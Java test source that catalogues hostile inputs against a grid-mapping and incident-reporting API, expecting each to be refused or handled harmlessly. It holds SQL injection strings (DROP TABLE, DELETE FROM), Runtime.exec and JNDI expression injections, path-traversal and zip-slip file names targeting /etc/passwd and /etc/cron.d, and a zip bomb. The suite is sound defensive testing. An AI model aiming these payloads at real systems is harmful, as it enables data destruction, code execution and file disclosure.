package org.gridmap.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.gridmap.MalformedGeoJson;

import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.MediaType;
import org.springframework.http.client.MultipartBodyBuilder;
import org.springframework.util.MultiValueMap;

import static org.gridmap.hostile.HostileCase.accepted;
import static org.gridmap.hostile.HostileCase.harmless;
import static org.gridmap.hostile.HostileCase.refused;
import static org.gridmap.hostile.HostileRequest.enc;
import static org.gridmap.hostile.HostileRequest.get;
import static org.gridmap.hostile.HostileRequest.json;
import static org.gridmap.hostile.HostileRequest.post;

/**
 * The hostile-input catalogue: every endpoint that takes input, by payload family. Cases
 * are built from the fixtures of the running district (a draft plan, an incident, a
 * station) so that each request reaches the parser it attacks rather than a 404.
 */
final class HostileCatalogue {

	static final String MALFORMED_GEOJSON = "malformed GeoJSON";

	static final String SQL_INJECTION = "SQL injection";

	static final String EXPRESSION = "expression language";

	static final String PATH_TRAVERSAL = "path traversal";

	static final String CONTENT_TYPE = "forged content types";

	static final String OVERSIZED = "oversized and deep";

	static final String WRONG_TYPES = "wrong types and huge numbers";

	static final String ENCODING = "invalid UTF-8, NUL and control characters";

	static final String HEADERS = "header abuse";

	static final String SEARCH_TEXT = "hostile search text (accepted harmlessly)";

	static final List<String> SQL = List.of("' OR 1=1--", "1;DROP TABLE grid--", "$$; DELETE FROM incident; $$",
			"2024-01-01' OR '1'='1", "\uff07 OR \uff11=\uff11--", "1 UNION SELECT usename FROM pg_user--",
			"'); SELECT pg_sleep(10);--");

	static final List<String> EL = List.of("${T(java.lang.Runtime).getRuntime().exec('id')}", "#{7*7}", "exec(\"id\")",
			"strSubstring(name, 0, 1)", "{{7*7}}", "${jndi:ldap://127.0.0.1/a}", "<%= 7*7 %>",
			"java.lang.Runtime.getRuntime().exec('id')");

	/** The nonsense that stands in for a payload in the benign twin of a request. */
	static final String BENIGN = "qqzzxxnothing";

	static final String GEOJSON = "application/geo+json";

	private final Fixtures f;

	private final List<HostileCase> cases = new ArrayList<>();

	record Fixtures(long plan, String planEtag, long incident, String trackingCode, String station, String stationEtag,
			String grid, String street, String community, String matter) {
	}

	private HostileCatalogue(Fixtures fixtures) {
		this.f = fixtures;
	}

	static List<HostileCase> cases(Fixtures fixtures) {
		HostileCatalogue catalogue = new HostileCatalogue(fixtures);
		catalogue.malformedGeoJson();
		catalogue.sqlInjection();
		catalogue.expressions();
		catalogue.pathTraversal();
		catalogue.contentTypes();
		catalogue.oversized();
		catalogue.wrongTypes();
		catalogue.encoding();
		catalogue.headers();
		catalogue.searchText();
		return catalogue.cases;
	}

	private void add(HostileCase c) {
		this.cases.add(c);
	}

	// ---- request shapes that recur ----

	private String changes() {
		return "/api/v1/plans/" + this.f.plan() + "/changes";
	}

	private HostileRequest planChange(String body) {
		return json("POST", changes(), body).header("If-Match", this.f.planEtag());
	}

	private HostileRequest reshape(String geometry) {
		return planChange("{\"kind\":\"reshape\",\"author\":\"李\",\"grids\":[{\"grid\":\"" + this.f.grid()
				+ "\",\"geometry\":" + geometry + "}]}");
	}

	private static HostileRequest preview(String file) {
		return post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=geojson", GEOJSON, file);
	}

	private HostileRequest planImport(String query, MultiValueMap<String, HttpEntity<?>> parts) {
		return HostileRequest.multipart("/api/v1/plans/" + this.f.plan() + "/imports" + query, parts)
			.header("If-Match", this.f.planEtag());
	}

	private String report(String matter, String description, String lon, String lat) {
		return "{\"matter\":" + matter + ",\"description\":" + description + ",\"lon\":" + lon + ",\"lat\":" + lat
				+ ",\"channel\":\"app\"}";
	}

	/** One historical report that imports (the attacked value is swapped in). */
	private String validCsv() {
		return "matter,description,lon,lat,reported_at,status\n" + this.f.matter()
				+ ",x,130.8,45.35,2024-01-01T00:00:00+08:00,reported\n";
	}

	private String validReport() {
		return report(q(this.f.matter()), q("井盖冒水"), "130.80", "45.35");
	}

	private static String q(String text) {
		return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
	}

	private static MultiValueMap<String, HttpEntity<?>> filePart(String filename, byte[] bytes, String type) {
		MultipartBodyBuilder parts = new MultipartBodyBuilder();
		parts.part("file", new ByteArrayResource(bytes)).filename(filename).contentType(MediaType.parseMediaType(type));
		parts.part("crs", "EPSG:4326");
		parts.part("author", "王规划");
		return parts.build();
	}

	private MultiValueMap<String, HttpEntity<?>> reportWithPhoto(String report, String filename, byte[] photo,
			String type) {
		MultipartBodyBuilder parts = new MultipartBodyBuilder();
		parts.part("report", report).contentType(MediaType.APPLICATION_JSON);
		if (photo != null) {
			parts.part("photo", new ByteArrayResource(photo))
				.filename(filename)
				.contentType(MediaType.parseMediaType(type));
		}
		return parts.build();
	}

	static byte[] zip(Map<String, byte[]> entries) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
				zip.putNextEntry(new ZipEntry(entry.getKey()));
				zip.write(entry.getValue());
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/** A zip whose one entry unpacks from about 70 KB to 70 MB of zeros. */
	static byte[] zipBomb() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.putNextEntry(new ZipEntry("grids.dbf"));
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry("grids.shp"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < 70; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	static final byte[] PNG_MAGIC = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };

	static byte[] concat(byte[] a, byte[] b) {
		byte[] out = Arrays.copyOf(a, a.length + b.length);
		System.arraycopy(b, 0, out, a.length, b.length);
		return out;
	}

	static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	// ---- families ----

	private void malformedGeoJson() {
		for (Map.Entry<String, String> ring : MalformedGeoJson.POLYGON_RINGS.entrySet()) {
			String polygon = MalformedGeoJson.polygon(ring.getValue());
			add(refused(MALFORMED_GEOJSON, "plan change, " + ring.getKey(), reshape(polygon), 400));
			String name = ring.getKey();
			if (name.equals("bow-tie")) {
				// A preview reads what the file holds and reports the invalid grid (200,
				// writes nothing): that is its job.
				add(accepted(MALFORMED_GEOJSON, "grid file preview, bow-tie reported as invalid",
						preview(MalformedGeoJson.featureCollection(polygon)),
						(body) -> body.contains("Self-intersection") || body.contains("invalid")));
			}
			else if (name.equals("3D positions") || name.equals("4D positions")) {
				add(accepted(MALFORMED_GEOJSON, "grid file preview, " + name + " dropped with a note",
						preview(MalformedGeoJson.featureCollection(polygon)), (body) -> body.contains("dropped")));
			}
			else if (!name.equals("outside China") && !name.equals("swapped coordinates")
					&& !name.equals("longitude out of range") && !name.equals("latitude out of range")) {
				add(refused(MALFORMED_GEOJSON, "grid file preview, " + name,
						preview(MalformedGeoJson.featureCollection(polygon)), 400));
			}
		}
		String square = MalformedGeoJson.polygon(String.format(MalformedGeoJson.SQUARE, "[130.82,45.341]"));
		add(refused(MALFORMED_GEOJSON, "plan change, crs member on the geometry", reshape(square.replace("{\"type\"",
				"{\"crs\":{\"type\":\"name\",\"properties\":{\"name\":\"EPSG:4490\"}},\"type\"")), 400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, unknown crs member",
				preview("{\"type\":\"FeatureCollection\",\"crs\":{\"type\":\"name\",\"properties\":{\"name\":"
						+ "\"EPSG:99999\"}},\"features\":[{\"type\":\"Feature\",\"properties\":{},\"geometry\":"
						+ square + "}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "plan change, empty MultiPolygon",
				reshape("{\"type\":\"MultiPolygon\",\"coordinates\":[]}"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, empty GeometryCollection",
				reshape("{\"type\":\"GeometryCollection\",\"geometries\":[]}"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, Point for a grid",
				reshape("{\"type\":\"Point\",\"coordinates\":[130.82,45.341]}"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, WKT string for a geometry",
				reshape("\"POLYGON((130 45, 131 45, 131 46, 130 45))\""), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, geometry null", reshape("null"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, duplicate member names", planChange(
				"{\"kind\":\"delete\",\"kind\":\"reshape\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\"}"),
				400));
		add(refused(MALFORMED_GEOJSON, "plan change, trailing garbage",
				planChange("{\"kind\":\"delete\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\"} trailing"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, truncated JSON", planChange("{\"kind\":"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, JSON with comments",
				planChange("/* hi */ {\"kind\":\"delete\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\"}"), 400));
		add(refused(MALFORMED_GEOJSON, "plan change, single-quoted JSON",
				planChange("{'kind':'delete','author':'李','grid':'" + this.f.grid() + "'}"), 400));
		add(refused(MALFORMED_GEOJSON, "split along a Polygon instead of a line", planChange(
				"{\"kind\":\"split\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\",\"line\":" + square + "}"),
				400));
		add(refused(MALFORMED_GEOJSON, "split along a line of one position",
				planChange("{\"kind\":\"split\",\"author\":\"李\",\"grid\":\"" + this.f.grid()
						+ "\",\"line\":{\"type\":\"LineString\",\"coordinates\":[[130.82,45.341]]}}"),
				400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, a Feature instead of a FeatureCollection",
				preview("{\"type\":\"Feature\",\"properties\":{},\"geometry\":" + square + "}"), 400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, no features",
				preview("{\"type\":\"FeatureCollection\",\"features\":[]}"), 400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, null geometry",
				preview(MalformedGeoJson.featureCollection("null")), 400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, crs member on a geometry",
				preview(MalformedGeoJson.featureCollection(square.replace("{\"type\"",
						"{\"crs\":{\"type\":\"name\",\"properties\":{\"name\":\"EPSG:4490\"}},\"type\""))),
				400));
		add(refused(MALFORMED_GEOJSON, "grid file preview, content after the collection",
				preview(MalformedGeoJson.featureCollection(square) + "{}"), 400));
		add(refused(MALFORMED_GEOJSON, "network import, NaN in a line", json("POST", "/api/v1/network/import",
				"{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{},"
						+ "\"geometry\":{\"type\":\"LineString\",\"coordinates\":[[NaN,0.5],[102.001,0.5]]}}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "network import, 1e400 in a line", json("POST", "/api/v1/network/import",
				"{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{},"
						+ "\"geometry\":{\"type\":\"LineString\",\"coordinates\":[[1e400,0.5],[102.001,0.5]]}}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "network import, a Polygon for a street",
				json("POST", "/api/v1/network/import", "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":"
						+ "\"Feature\",\"properties\":{},\"geometry\":" + square + "}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "network import, empty collection",
				json("POST", "/api/v1/network/import", "{\"type\":\"FeatureCollection\",\"features\":[]}"), 400));
		add(refused(MALFORMED_GEOJSON, "network import, 3D line of one position",
				json("POST", "/api/v1/network/import",
						"{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{},"
								+ "\"geometry\":{\"type\":\"LineString\",\"coordinates\":[[102,0.5,3]]}}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "siting candidates, NaN",
				json("POST", "/api/v1/coverage/siting", "{\"k\":1,\"candidates\":[{\"lon\":NaN,\"lat\":45.35}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "siting candidates, swapped coordinates",
				json("POST", "/api/v1/coverage/siting", "{\"k\":1,\"candidates\":[{\"lon\":45.35,\"lat\":130.8}]}"),
				400));
		add(refused(MALFORMED_GEOJSON, "batch lookup, 1e400 longitude",
				json("POST", "/api/v1/lookup", "{\"points\":[{\"id\":\"a\",\"lon\":1e400,\"lat\":45.35}]}"), 400));
		add(refused(MALFORMED_GEOJSON, "batch lookup, Infinity",
				json("POST", "/api/v1/lookup", "{\"points\":[{\"id\":\"a\",\"lon\":Infinity,\"lat\":45.35}]}"), 400));
	}

	private void sqlInjection() {
		String fam = SQL_INJECTION;
		for (String p : SQL) {
			add(refused(fam, "lookup lon " + p, get("/api/v1/lookup?lon=" + enc(p) + "&lat=45.35"), 400));
		}
		add(refused(fam, "lookup lat", get("/api/v1/lookup?lon=130.8&lat=" + enc(SQL.get(1))), 400));
		add(refused(fam, "lookup crs", get("/api/v1/lookup?lon=130.8&lat=45.35&crs=" + enc(SQL.get(0))), 400));
		add(refused(fam, "lookup asOf time filter", get("/api/v1/lookup?lon=130.8&lat=45.35&asOf=" + enc(SQL.get(3))),
				400));
		add(refused(fam, "OGC items bbox", get("/ogc/collections/grids/items?bbox=" + enc("1,2,3,4' OR 1=1--")), 400));
		add(refused(fam, "OGC items bbox-crs",
				get("/ogc/collections/grids/items?bbox=130,45,131,46&bbox-crs=" + enc(SQL.get(0))), 400));
		add(refused(fam, "OGC items crs", get("/ogc/collections/grids/items?crs=" + enc(SQL.get(1))), 400));
		add(refused(fam, "OGC items limit", get("/ogc/collections/grids/items?limit=" + enc("10;DROP TABLE grid")),
				400));
		add(refused(fam, "OGC items offset", get("/ogc/collections/grids/items?offset=" + enc(SQL.get(5))), 400));
		add(refused(fam, "OGC items datetime time filter",
				get("/ogc/collections/grids/items?datetime=" + enc(SQL.get(3))), 400));
		add(refused(fam, "OGC items datetime interval",
				get("/ogc/collections/incidents/items?datetime=" + enc("2024-01-01/2024-02-01' OR '1'='1")), 400));
		add(refused(fam, "OGC items property filter", get("/ogc/collections/grids/items?name=" + enc(SQL.get(0))),
				400));
		add(refused(fam, "OGC items sortby", get("/ogc/collections/grids/items?sortby=" + enc("code;DROP TABLE grid")),
				400));
		add(refused(fam, "OGC collection id", get("/ogc/collections/" + enc(SQL.get(0)) + "/items"), 404));
		add(harmless(fam, "OGC feature id", get("/ogc/collections/grids/items/" + enc(SQL.get(0))),
				get("/ogc/collections/grids/items/" + BENIGN)));
		add(harmless(fam, "OGC incident feature id", get("/ogc/collections/incidents/items/" + enc(SQL.get(5))),
				get("/ogc/collections/incidents/items/" + BENIGN)));
		add(harmless(fam, "Open311 service_code", get("/open311/v2/requests.json?service_code=" + enc(SQL.get(0))),
				get("/open311/v2/requests.json?service_code=" + BENIGN)));
		add(harmless(fam, "Open311 service_request_id",
				get("/open311/v2/requests.json?service_request_id=" + enc(SQL.get(5))),
				get("/open311/v2/requests.json?service_request_id=" + BENIGN)));
		add(refused(fam, "Open311 status", get("/open311/v2/requests.json?status=" + enc(SQL.get(0))), 400));
		add(refused(fam, "Open311 start_date time filter",
				get("/open311/v2/requests.json?start_date=" + enc(SQL.get(3))), 400));
		add(refused(fam, "Open311 end_date time filter",
				get("/open311/v2/requests.xml?end_date=" + enc("2024-01-01T00:00:00Z' OR '1'='1")), 400));
		add(harmless(fam, "Open311 service by code", get("/open311/v2/services/" + enc(SQL.get(0)) + ".json"),
				get("/open311/v2/services/" + BENIGN + ".json")));
		add(harmless(fam, "Open311 request by id", get("/open311/v2/requests/" + enc(SQL.get(1)) + ".json"),
				get("/open311/v2/requests/" + BENIGN + ".json")));
		for (String param : List.of("status", "deadline", "from", "to", "limit", "offset", "bbox", "grid", "sort")) {
			add(refused(fam, "incident list " + param,
					get("/api/v1/incidents?" + param + "=" + enc(SQL.get(param.length() % SQL.size()))), 400));
		}
		for (String param : List.of("matter", "department", "street")) {
			add(harmless(fam, "incident list " + param, get("/api/v1/incidents?" + param + "=" + enc(SQL.get(0))),
					get("/api/v1/incidents?" + param + "=" + BENIGN)));
		}
		add(refused(fam, "hotspots bbox", get("/api/v1/hotspots?bbox=" + enc("130.7,45.3,130.9,45.4' OR '1'='1")),
				400));
		for (String param : List.of("cellMetres", "zoom", "from", "to", "status")) {
			add(refused(fam, "hotspots " + param,
					get("/api/v1/hotspots?bbox=130.7,45.3,130.9,45.4&" + param + "=" + enc(SQL.get(3))), 400));
		}
		add(harmless(fam, "hotspots matter",
				get("/api/v1/hotspots?bbox=130.7,45.3,130.9,45.4&matter=" + enc(SQL.get(0))),
				get("/api/v1/hotspots?bbox=130.7,45.3,130.9,45.4&matter=" + BENIGN)));
		add(refused(fam, "grid choropleth from", get("/api/v1/hotspots/grids?from=" + enc(SQL.get(3))), 400));
		add(refused(fam, "grid choropleth bbox", get("/api/v1/hotspots/grids?bbox=" + enc(SQL.get(0))), 400));
		for (String param : List.of("from", "to", "street", "community", "format", "lang")) {
			add(refused(fam, "stats/grids " + param, get("/api/v1/stats/grids?" + param + "=" + enc(SQL.get(3))), 400,
					404));
		}
		add(refused(fam, "stats grouping", get("/api/v1/stats/" + enc(SQL.get(0))), 404));
		add(refused(fam, "stats series interval", get("/api/v1/stats/series?interval=" + enc(SQL.get(0))), 400));
		add(refused(fam, "stats series by", get("/api/v1/stats/series?by=" + enc("matter;DROP TABLE grid")), 400));
		add(refused(fam, "board grid code", get("/api/v1/boards/" + enc(SQL.get(0))), 400, 404));
		add(refused(fam, "boards street", get("/api/v1/boards?street=" + enc(SQL.get(1))), 400, 404));
		add(refused(fam, "board asOf", get("/api/v1/boards/" + this.f.grid() + "?asOf=" + enc(SQL.get(3))), 400));
		add(refused(fam, "grid by code", get("/api/v1/grids/" + enc(SQL.get(0))), 400, 404));
		add(refused(fam, "grid asOf", get("/api/v1/grids/" + this.f.grid() + "?asOf=" + enc(SQL.get(3))), 400));
		add(refused(fam, "grid export format", get("/api/v1/grids/export?format=" + enc(SQL.get(0))), 400));
		add(refused(fam, "grid export community", get("/api/v1/grids/export?community=" + enc(SQL.get(1))), 400, 404));
		add(refused(fam, "grid export asOf", get("/api/v1/grids/export?asOf=" + enc(SQL.get(3))), 400));
		add(refused(fam, "plan list status", get("/api/v1/plans?status=" + enc(SQL.get(0))), 400));
		add(refused(fam, "plan list parent", get("/api/v1/plans?parent=" + enc(SQL.get(1))), 400));
		add(refused(fam, "plan impact addressLimit",
				get("/api/v1/plans/" + this.f.plan() + "/impact?addressLimit=" + enc(SQL.get(1))), 400));
		add(refused(fam, "plan export format",
				get("/api/v1/plans/" + this.f.plan() + "/export?format=" + enc(SQL.get(0))), 400));
		add(refused(fam, "plan grids crs", get("/api/v1/plans/" + this.f.plan() + "/grids?crs=" + enc(SQL.get(0))),
				400));
		add(refused(fam, "plan changes crs",
				planChange("{\"kind\":\"delete\",\"author\":\"李\",\"grid\":\"" + this.f.grid() + "\"}")
					.withUri(changes() + "?crs=" + enc(SQL.get(0))),
				400));
		add(refused(fam, "plan create parent", json("POST", "/api/v1/plans",
				"{\"name\":\"x\",\"parent\":" + q(SQL.get(0)) + ",\"effectiveDate\":\"2030-01-01\",\"author\":\"王\"}"),
				400));
		add(refused(fam, "plan create effectiveDate time filter",
				json("POST", "/api/v1/plans", "{\"name\":\"x\",\"parent\":\"" + this.f.community()
						+ "\",\"effectiveDate\":" + q(SQL.get(3)) + ",\"author\":\"王\"}"),
				400));
		add(refused(fam, "plan change grid code",
				planChange("{\"kind\":\"delete\",\"author\":\"李\",\"grid\":" + q(SQL.get(0)) + "}"), 400, 404, 422));
		add(refused(fam, "plan change attribute name",
				planChange("{\"kind\":\"attributes\",\"author\":\"李\",\"grid\":\"" + this.f.grid()
						+ "\",\"set\":{\"households; DROP TABLE grid--\":1}}"),
				400));
		add(refused(fam, "tile layer", get("/tiles/" + enc(SQL.get(0)) + "/12/3000/1400.mvt"), 400, 404));
		add(refused(fam, "tile z", get("/tiles/grids/" + enc("12 OR 1=1") + "/3000/1400.mvt"), 400, 404));
		add(refused(fam, "hotspot tile from", get("/tiles/hotspots/12/3536/1443.mvt?from=" + enc(SQL.get(3))), 400));
		add(refused(fam, "stations limit", get("/api/v1/stations?limit=" + enc(SQL.get(1))), 400));
		add(refused(fam, "stations type", get("/api/v1/stations?type=" + enc(SQL.get(0))), 400));
		add(refused(fam, "station code", get("/api/v1/stations/" + enc(SQL.get(0))), 400, 404));
		add(refused(fam, "circle minutes",
				get("/api/v1/stations/" + this.f.station() + "/circle?minutes=" + enc(SQL.get(1))), 400));
		add(refused(fam, "circle mode", get("/api/v1/stations/" + this.f.station() + "/circle?mode=" + enc(SQL.get(0))),
				400));
		add(refused(fam, "coverage method", get("/api/v1/coverage?method=" + enc(SQL.get(0))), 400));
		add(refused(fam, "coverage area", get("/api/v1/coverage?area=" + enc(SQL.get(1))), 400, 404));
		add(refused(fam, "uncovered bbox", get("/api/v1/coverage/uncovered?bbox=" + enc(SQL.get(0))), 400));
		add(refused(fam, "uncovered offset", get("/api/v1/coverage/uncovered?offset=" + enc(SQL.get(5))), 400));
		add(refused(fam, "addresses limit", get("/api/v1/addresses?q=%E5%B9%B8%E7%A6%8F&limit=" + enc(SQL.get(1))),
				400));
		add(refused(fam, "tracking code", get("/api/v1/incidents/track/" + enc(SQL.get(0))), 400, 404));
		add(refused(fam, "incident action name", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":" + q(SQL.get(0)) + ",\"actor\":\"x\",\"role\":\"dispatcher\"}"), 400));
		// actor and role are ignored since sign-in (the caller is the actor): the reason
		// is read.
		add(refused(fam, "incident action reason", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":\"reject\",\"reason\":" + q(SQL.get(1)) + "}"), 400));
		add(refused(fam, "incident report matter",
				json("POST", "/api/v1/incidents", report(q(SQL.get(0)), q("井盖"), "130.80", "45.35")), 400));
		add(refused(fam, "incident report crs", json("POST", "/api/v1/incidents",
				validReport().replace("\"channel\"", "\"crs\":" + q(SQL.get(0)) + ",\"channel\"")), 400));
		add(refused(fam, "incident report channel",
				json("POST", "/api/v1/incidents", validReport().replace("\"app\"", q(SQL.get(1)))), 400));
		add(refused(fam, "Open311 POST service_code",
				post("/open311/v2/requests.json", MediaType.APPLICATION_FORM_URLENCODED_VALUE,
						"api_key=demo-open311-key&service_code=" + enc(SQL.get(0)) + "&lat=45.35&long=130.8"),
				400));
		add(refused(fam, "Open311 POST api_key",
				post("/open311/v2/requests.json", MediaType.APPLICATION_FORM_URLENCODED_VALUE,
						"api_key=" + enc(SQL.get(0)) + "&service_code=" + this.f.matter() + "&lat=45.35&long=130.8"),
				403));
		add(refused(fam, "Open311 POST lat", post("/open311/v2/requests.json",
				MediaType.APPLICATION_FORM_URLENCODED_VALUE,
				"api_key=demo-open311-key&service_code=" + this.f.matter() + "&lat=" + enc(SQL.get(0)) + "&long=130.8"),
				400));
		add(refused(fam, "station create type", json("POST", "/api/v1/stations",
				"{\"code\":\"HX01\",\"name\":\"x\",\"type\":" + q(SQL.get(0)) + ",\"lon\":130.8,\"lat\":45.35}"), 400));
		add(refused(fam, "station create code", json("POST", "/api/v1/stations",
				"{\"code\":" + q(SQL.get(1)) + ",\"name\":\"x\",\"type\":\"党群驿站\",\"lon\":130.8,\"lat\":45.35}"), 400));
		add(refused(fam, "proposal community",
				json("POST", "/api/v1/proposals", "{\"community\":" + q(SQL.get(0)) + "}"), 400, 404));
		add(refused(fam, "siting mode",
				json("POST", "/api/v1/coverage/siting", "{\"k\":1,\"mode\":" + q(SQL.get(0)) + "}"), 400));
		add(refused(fam, "network import replace", json("POST", "/api/v1/network/import?replace=" + enc(SQL.get(0)),
				"{\"type\":\"FeatureCollection\",\"features\":[]}"), 400));
		add(refused(fam, "CSV import status column",
				post("/api/v1/incidents/imports", "text/csv", "matter,description,lon,lat,reported_at,status\n"
						+ this.f.matter() + ",x,130.8,45.35,2024-01-01T00:00:00+08:00," + SQL.get(0) + "\n"),
				400, 422));
		add(refused(fam, "CSV import reported_at time filter",
				post("/api/v1/incidents/imports", "text/csv", "matter,description,lon,lat,reported_at\n"
						+ this.f.matter() + ",x,130.8,45.35,\"" + SQL.get(3).replace("\"", "\"\"") + "\"\n"),
				400, 422));
	}

	private void expressions() {
		String fam = EXPRESSION;
		int i = 0;
		for (String e : EL) {
			add(refused(fam, "OGC datetime " + e, get("/ogc/collections/grids/items?datetime=" + enc(e)), 400));
			add(refused(fam, "OGC filter parameter " + e,
					get("/ogc/collections/grids/items?filter=" + enc(e) + "&filter-lang=cql2-text"), 400));
			add(refused(fam, "lookup crs " + e, get("/api/v1/lookup?lon=130.8&lat=45.35&crs=" + enc(e)), 400));
			add(harmless(fam, "address search " + e, get("/api/v1/addresses?q=" + enc(e)),
					get("/api/v1/addresses?q=" + BENIGN)));
			i++;
		}
		add(refused(fam, "OGC items f", get("/ogc/collections/grids/items?f=" + enc(EL.get(0))), 400, 406));
		add(refused(fam, "Open311 format", get("/open311/v2/services." + enc("${7*7}")), 400, 404));
		add(refused(fam, "stats lang", get("/api/v1/stats/grids?lang=" + enc(EL.get(1))), 400));
		add(refused(fam, "export format", get("/api/v1/grids/export?format=" + enc(EL.get(0))), 400));
		add(refused(fam, "plan change kind", planChange("{\"kind\":" + q(EL.get(0)) + ",\"author\":\"李\"}"), 400));
		add(refused(fam, "incident action", json("POST", "/api/v1/incidents/" + this.f.incident() + "/actions",
				"{\"action\":" + q(EL.get(1)) + ",\"actor\":\"x\",\"role\":\"dispatcher\"}"), 400));
		add(refused(fam, "preview crs",
				post("/api/v1/grids/imports/preview?format=geojson&crs=" + enc(EL.get(0)), GEOJSON,
						MalformedGeoJson.featureCollection(
								MalformedGeoJson.polygon(String.format(MalformedGeoJson.SQUARE, "[130.82,45.341]")))),
				400));
		add(refused(fam, "preview format",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=" + enc(EL.get(3)), GEOJSON, "{}"), 400));
		add(refused(fam, "siting method",
				json("POST", "/api/v1/coverage/siting", "{\"k\":1,\"method\":" + q(EL.get(2)) + "}"), 400));
	}

	private void pathTraversal() {
		String fam = PATH_TRAVERSAL;
		byte[] geojson = utf8(MalformedGeoJson
			.featureCollection(MalformedGeoJson.polygon(String.format(MalformedGeoJson.SQUARE, "[130.82,45.341]"))));
		for (String name : List.of("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd",
				"C:\\Windows\\system32\\drivers\\etc\\hosts", "%2e%2e%2f%2e%2e%2fetc%2fpasswd.geojson",
				"grids.geojson\u0000.png")) {
			add(harmless(fam, "preview file name " + name,
					HostileRequest.multipart("/api/v1/grids/imports/preview", filePart(name, geojson, GEOJSON)),
					HostileRequest.multipart("/api/v1/grids/imports/preview",
							filePart("grids.geojson", geojson, GEOJSON))));
		}
		byte[] shp = new byte[100];
		for (String entry : List.of("../evil.shp", "../../tmp/evil.shp", "/tmp/evil.shp", "C:/evil.shp", "..\\evil.shp",
				"a/../../evil.shp")) {
			byte[] zip = zip(Map.of(entry, shp, entry.replace(".shp", ".dbf"), new byte[32]));
			add(refused(fam, "zipped shapefile entry " + entry, HostileRequest
				.multipart("/api/v1/grids/imports/preview", filePart("grids.zip", zip, "application/zip")), 400));
		}
		add(refused(fam, "plan import zip entry ../../etc/cron.d/x.shp",
				planImport("?format=shapefile",
						filePart("x.zip",
								zip(Map.of("../../etc/cron.d/x.shp", shp, "../../etc/cron.d/x.dbf", new byte[32])),
								"application/zip")),
				400));
		add(refused(fam, "plan import file name with traversal and a bad file",
				planImport("", filePart("../../../../tmp/x.geojson", utf8("{\"type\":\"Feature\"}"), GEOJSON)), 400));
		add(refused(fam, "incident photo file name with traversal and text content",
				HostileRequest.multipart("/api/v1/incidents",
						reportWithPhoto(validReport(), "../../../../tmp/x.jpg", utf8("not a photo"), "image/jpeg")),
				400));
		for (String path : List.of("/api/v1/grids/..%2F..%2F..%2Fetc%2Fpasswd", "/board/..%2F..%2Fetc%2Fpasswd/qr.svg",
				"/api/v1/stations/..%2F..%2Fapplication.properties", "/tiles/..%2F..%2Fetc/1/2/3.mvt",
				"/%2e%2e/%2e%2e/etc/passwd", "/webjars/..%2F..%2Fapplication.properties",
				"/api/v1/incidents/track/..%2F..%2Fetc%2Fpasswd", "/open311/v2/services/..%2F..%2Fetc%2Fpasswd.json")) {
			add(refused(fam, "URL path " + path, get(path), 400, 404));
		}
	}

	private void contentTypes() {
		String fam = CONTENT_TYPE;
		byte[] gpkg = concat(utf8("SQLite format 3\u0000"), new byte[4096]);
		add(refused(fam, "GeoPackage bytes sent as GeoJSON",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=geojson", GEOJSON, gpkg), 400));
		add(refused(fam, "GeoJSON sent as GeoPackage", post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=gpkg",
				"application/geopackage+sqlite3", "{\"type\":\"FeatureCollection\",\"features\":[]}"), 400));
		add(refused(fam, "truncated GeoPackage",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326", "application/geopackage+sqlite3", gpkg), 400));
		add(refused(fam, "text sent as a zipped shapefile",
				post("/api/v1/grids/imports/preview?crs=EPSG:4326&format=shapefile", "application/zip", "PK not a zip"),
				400));
